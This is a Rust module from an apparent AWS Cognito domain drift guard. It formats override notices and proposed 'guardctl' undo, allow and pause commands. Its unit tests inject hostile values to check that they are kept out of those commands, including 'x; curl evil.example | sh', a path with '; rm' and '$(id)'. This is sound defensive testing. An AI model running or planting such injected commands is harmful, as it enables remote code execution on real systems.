//! Overrides in words: why the guard does not write, what is in force, and the commands that allow, stop
//! and undo.

use super::about::About;
use super::commands;
use super::record::Record;
use crate::overrides::{Location, State};
use crate::plan::{Decision, Withheld};
use crate::report::{Kind, OverrideEffect, OverrideRecord};

/// For how long the commands that are proposed allow or pause.
const ALLOWED_FOR: &str = "8h";
const PAUSED_FOR: &str = "2h";
/// The stack that `guardctl` takes where none is named.
const DEFAULT_STACK: &str = "cognito-domain-guard";

/// Why drift is not put back now, as a sentence without its full stop. `None` for every other decision.
pub fn why_stopped(decision: &Decision, now: time::OffsetDateTime) -> Option<String> {
    match decision {
        Decision::Pause(one) => {
            let OverrideRecord { until, reason, by, .. } = OverrideRecord::of(one, now);
            let (reason, by) = (reason.unwrap_or_default(), by.unwrap_or_default());
            Some(format!("paused until {until} ({reason}), as {by} wrote"))
        }
        Decision::Withhold(Withheld::Unsound(one)) => {
            let OverrideRecord { parameter, until, problem, .. } = OverrideRecord::of(one, now);
            Some(format!(
                "{parameter} is no override, and may be meant for this domain, so nothing is written \
                 until {until}: {}",
                problem.unwrap_or_default()
            ))
        }
        Decision::Withhold(Withheld::Unreadable) => {
            Some("the overrides cannot be read, so nobody knows whether this is allowed".to_owned())
        }
        Decision::InSync
        | Decision::Restored
        | Decision::NotRestored
        | Decision::Update(_)
        | Decision::Hold(_)
        | Decision::Refuse(_)
        | Decision::Exempt
        | Decision::AuditOnly
        | Decision::ReadOverrides
        | Decision::Unmanaged
        | Decision::Gone => None,
    }
}

/// The override that keeps the guard from writing, as the record has it.
pub(super) fn stopping(about: &About<'_>) -> Option<OverrideRecord> {
    match &about.plan?.decision {
        Decision::Pause(one) | Decision::Withhold(Withheld::Unsound(one)) => {
            Some(OverrideRecord::of(one, about.now))
        }
        Decision::Withhold(Withheld::Unreadable)
        | Decision::InSync
        | Decision::Restored
        | Decision::NotRestored
        | Decision::Update(_)
        | Decision::Hold(_)
        | Decision::Refuse(_)
        | Decision::Exempt
        | Decision::AuditOnly
        | Decision::ReadOverrides
        | Decision::Unmanaged
        | Decision::Gone => None,
    }
}

/// The headline of a domain that is left as it is, with `what` after the word that calls for it.
pub(super) fn headline(record: &Record, name: &str, what: &str) -> String {
    match record.overrides.first() {
        Some(OverrideRecord { state: State::InForce | State::Ended, until, .. }) => {
            format!("{name} drifted{what}; paused until {until}, so it was left. You decide.")
        }
        Some(OverrideRecord { state: State::Holds | State::Void, .. }) => {
            format!("{name} drifted{what} and was left: an override cannot be read. Act now.")
        }
        None => {
            format!("{name} drifted{what} and was left: the overrides cannot be read. Act now.")
        }
    }
}

/// What it means that a domain is left as it is.
pub(super) fn meaning(record: &Record) -> String {
    match record.overrides.first() {
        Some(OverrideRecord { state: State::InForce | State::Ended, until, .. }) => format!(
            "The guard looks and reports, and writes nothing to the domain while the pause lasts. The first \
             sweep after {until} puts it back."
        ),
        Some(OverrideRecord { state: State::Holds | State::Void, until, .. }) => format!(
            "Somebody may have allowed this, so the guard writes nothing that the override may be meant \
             for. At {until} that is over, and the override counts as absent."
        ),
        None => "Somebody may have allowed this, so the guard writes nothing until it can read the \
                 overrides. It tries again each minute for an hour and a half, and then with each sweep; \
                 an alarm follows if the drift lasts."
            .to_owned(),
    }
}

/// What to do about a domain that is left as it is.
pub(super) fn next_steps(steps: &mut Vec<String>, record: &Record, about: &About<'_>) {
    match record.overrides.first() {
        Some(OverrideRecord { state: State::InForce | State::Ended, parameter, .. }) => {
            resume(steps, about, parameter, "To end the pause now:");
        }
        Some(OverrideRecord { state: State::Holds | State::Void, parameter, .. }) => {
            steps.push("Write the override again as it was meant, under a new name.".to_owned());
            resume(steps, about, parameter, "To remove it:");
        }
        None => unreadable(steps, record),
    }
}

fn unreadable(steps: &mut Vec<String>, record: &Record) {
    if record.error.as_ref().is_some_and(|error| error.denial.is_some()) {
        steps.push(
            "Allow the guard's role ssm:GetParametersByPath on the path of the overrides; a service \
             control policy or a permissions boundary can deny it too."
                .to_owned(),
        );
    } else {
        steps.push(
            "The guard looks again each minute for an hour and a half, and an alarm follows if the drift lasts. \
             If it does, look at SSM in the AWS Health Dashboard."
                .to_owned(),
        );
    }
}

/// The one command that undoes what the guard did, or keeps it from doing it, where one is due: with
/// every `reverted` notice and every critical one.
pub(super) fn undo(steps: &mut Vec<String>, record: &Record, about: &About<'_>) {
    let Some(rest) = where_it_is(about.overrides) else { return };
    let domain = commands::domain_of(record);
    let reason = "--reason \"...\"";
    let incident =
        Some(record.incident.as_str()).filter(|incident| commands::is_safe_word(incident));
    let attributes: Vec<_> = record.drifts.iter().map(|drift| drift.attribute.as_str()).collect();
    let was_written = match record.kind {
        Kind::Reverted | Kind::NotRestored => true,
        Kind::DriftDetected
        | Kind::DriftLasts
        | Kind::StateUnknown
        | Kind::Restored
        | Kind::RevertFailed
        | Kind::Refused
        | Kind::Exempted
        | Kind::Audit
        | Kind::Paused
        | Kind::OverrideChanged
        | Kind::NotCovered
        | Kind::DomainCreated
        | Kind::DomainDeleted
        | Kind::ExemptionExpiring
        | Kind::SweepDigest
        | Kind::SweepHeld
        | Kind::Test => false,
    };
    steps.push(match (incident, domain) {
        (Some(incident), _) if was_written => format!(
            "If the revert locks people out, allow the change for a while and put it back as it was:\n\
             guardctl undo {incident} --for {ALLOWED_FOR} {reason}{rest}"
        ),
        (_, Some(domain)) if !attributes.is_empty() => format!(
            "To have the guard leave it so for a while:\n\
             guardctl allow {domain} --attributes {} --for {ALLOWED_FOR} {reason}{rest}",
            attributes.join(",")
        ),
        (_, Some(domain)) => format!(
            "To keep the guard from writing to it for a while:\n\
             guardctl pause {domain} --for {PAUSED_FOR} {reason}{rest}"
        ),
        (_, None) => format!(
            "To keep the guard from writing at all for a while:\n\
             guardctl pause --for {PAUSED_FOR} {reason}{rest}"
        ),
    });
}

/// How `guardctl` finds the guard from any shell. `None` where it reads no overrides, or where they are
/// is nothing for a shell.
pub(super) fn where_it_is(location: Option<&Location>) -> Option<String> {
    let location = location?;
    let region = Some(&location.region).filter(|region| commands::is_safe_word(region))?;
    Some(format!("{} --guard-region {region}", stack_of(location)?))
}

/// The guard's stack as an argument of `guardctl`: empty for the one that it takes by itself.
pub(super) fn stack_of(location: &Location) -> Option<String> {
    let stack = location.stack().filter(|stack| commands::is_safe_word(stack))?;
    Some(if stack == DEFAULT_STACK { String::new() } else { format!(" --stack {stack}") })
}

/// Adds how to end the override of that parameter.
pub(super) fn resume(steps: &mut Vec<String>, about: &About<'_>, parameter: &str, sentence: &str) {
    let id = about.overrides.and_then(|location| location.id_of(parameter));
    if let Some((id, rest)) = id.and_then(commands::word).zip(where_it_is(about.overrides)) {
        steps.push(format!("{sentence}\nguardctl resume {id}{rest}"));
    }
}

/// An override in one sentence without its full stop.
pub(super) fn worded(one: &OverrideRecord) -> String {
    let domains = match one.domain.as_deref() {
        Some("*") | None => "every domain",
        Some(domain) => domain,
    };
    let mut line = domains.to_owned();
    for (word, values) in [("account", &one.accounts), ("region", &one.regions)] {
        if !values.is_empty() {
            line.push_str(&format!(" ({word} {})", values.join(", ")));
        }
    }
    let until = &one.until;
    line.push_str(&match (one.state, one.effect) {
        (State::Holds, _) => format!(": nothing is written until {until}, since it cannot be read"),
        (State::Void, _) => ": cannot be read, and is ignored".to_owned(),
        (State::InForce, Some(OverrideEffect::Pause) | None) => format!(": paused until {until}"),
        (State::Ended, Some(OverrideEffect::Pause) | None) => format!(": was paused until {until}"),
        (State::InForce, Some(OverrideEffect::Allow)) => {
            format!(": {} may drift until {until}", attributes(one))
        }
        (State::Ended, Some(OverrideEffect::Allow)) => {
            format!(": {} might drift until {until}", attributes(one))
        }
    });
    if let Some(problem) = &one.problem {
        line.push_str(&format!(": {problem}"));
    }
    if let Some(reason) = &one.reason {
        line.push_str(&format!(" ({reason}"));
        for (word, value) in [("", &one.ticket), ("by ", &one.by), ("ask ", &one.owner)] {
            if let Some(value) = value {
                line.push_str(&format!(", {word}{value}"));
            }
        }
        line.push(')');
    }
    line
}

fn attributes(one: &OverrideRecord) -> String {
    one.attributes.iter().map(|one| one.as_str()).collect::<Vec<_>>().join(", ")
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::super::Notice;
    use super::super::scene::{about, baseline, event, event_for, home, notice_about};
    use super::*;
    use crate::report::Severity;

    /// The commands of `guardctl` that stop or allow something.
    fn stopping_commands(notice: &Notice) -> Vec<&str> {
        let lines = notice.record.next_steps.iter().flat_map(|step| step.lines());
        let stops = ["guardctl undo ", "guardctl allow ", "guardctl pause "];
        lines.filter(|line| stops.iter().any(|stop| line.starts_with(stop))).collect()
    }

    fn of(kind: Kind, event: &Value) -> Notice {
        notice_about(kind, event, &home())
    }

    #[test]
    fn every_reverted_and_every_critical_notice_carries_one_command_that_undoes_it() {
        let mut critical = 0;
        for kind in Kind::ALL {
            let Some(event) = event_for(kind) else { continue };
            let notice = of(kind, &event);
            // Where the guard is not let in, it does nothing that could be undone.
            let is_due = kind != Kind::NotCovered
                && (kind == Kind::Reverted || notice.record.severity == Severity::Critical);
            assert_eq!(
                stopping_commands(&notice).len(),
                usize::from(is_due),
                "{kind}: {notice:#?}"
            );
            critical += usize::from(is_due);
            // In a form that people get, it is one line.
            for command in stopping_commands(&notice) {
                assert!(notice.email().lines().any(|line| line.trim() == command), "{command}");
            }
        }
        assert!(critical >= 6, "{critical}");
    }

    #[test]
    fn the_command_fits_what_the_guard_did() {
        let first = |kind| {
            let notice = of(kind, &event_for(kind).unwrap());
            stopping_commands(&notice).concat()
        };
        let incident = "2c63888f-28f0-4481-be6d-dce7a7ace732";
        let rest = "--reason \"...\" --guard-region eu-central-1";
        assert_eq!(first(Kind::Reverted), format!("guardctl undo {incident} --for 8h {rest}"));
        assert_eq!(
            first(Kind::RevertFailed),
            format!(
                "guardctl allow auth.example.com --attributes \
                 security_policy,routing,managed_login_version --for 8h {rest}"
            )
        );
        assert_eq!(
            first(Kind::DomainDeleted),
            format!("guardctl pause auth.example.com --for 2h {rest}")
        );
    }

    #[test]
    fn the_command_names_the_stack_and_the_guards_region_and_there_is_none_without_overrides() {
        let (baseline, place) = (baseline(), home());
        let record = of(Kind::Reverted, &event("update-weakens-tls")).record;
        let step = |overrides: Option<Location>| {
            let about = About {
                overrides: overrides.as_ref(),
                ..about(&place, &baseline, time::OffsetDateTime::UNIX_EPOCH)
            };
            let mut steps = Vec::new();
            undo(&mut steps, &record, &about);
            steps.concat()
        };
        let location = |path: &str, region: &str| {
            Some(Location { path: path.to_owned(), region: region.to_owned() })
        };
        assert!(
            step(location(&Location::path_of("my-guard"), "us-east-1"))
                .ends_with("--reason \"...\" --stack my-guard --guard-region us-east-1")
        );
        assert_eq!(step(None), "");
        // Nothing that a shell would take for more than a word is pasted.
        assert_eq!(step(location("/cognito-domain-guard/x; rm/overrides", "us-east-1")), "");
        assert_eq!(step(location(&Location::path_of("x"), "$(id)")), "");
    }

    #[test]
    fn what_others_chose_is_no_part_of_a_command() {
        let mut event = event("update-weakens-tls");
        event["detail"]["eventID"] = "x; curl evil.example | sh".into();
        let notice = of(Kind::Reverted, &event);
        let commands = stopping_commands(&notice);
        assert_eq!(commands.len(), 1);
        assert!(commands.concat().starts_with("guardctl allow auth.example.com "), "{commands:?}");
        event["detail"]["requestParameters"]["domain"] = "--help".into();
        let notice = of(Kind::RevertFailed, &event);
        assert!(!stopping_commands(&notice).concat().contains("--help"), "{notice:#?}");
    }
}
